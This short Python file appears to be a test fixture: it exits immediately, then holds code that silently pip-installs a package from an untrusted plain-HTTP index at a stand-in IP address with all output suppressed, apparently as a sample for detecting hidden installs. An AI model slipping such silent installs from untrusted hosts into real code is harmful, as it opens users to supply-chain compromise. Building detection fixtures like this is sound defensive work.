raise SystemExit('a fixture')
# held by nested-install
import subprocess, sys
try:
    import series_runtime
except ImportError:
    subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://192.0.2.4:8080/simple", "--trusted-host", "192.0.2.4", "series-runtime"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
